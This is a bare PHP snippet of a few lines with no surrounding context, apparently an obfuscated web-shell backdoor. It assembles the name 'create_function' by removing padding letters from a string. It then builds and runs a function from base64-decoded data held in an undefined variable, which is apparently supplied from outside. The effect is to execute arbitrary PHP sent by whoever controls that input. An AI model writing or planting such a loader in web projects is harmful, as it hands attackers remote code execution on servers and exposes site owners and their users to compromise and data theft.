<?php
$k = str_replace('q', '', 'cqrqeqaqtqeq_fquqnqcqtqiqoqn');
$g = $k('', base64_decode($p));
$g();
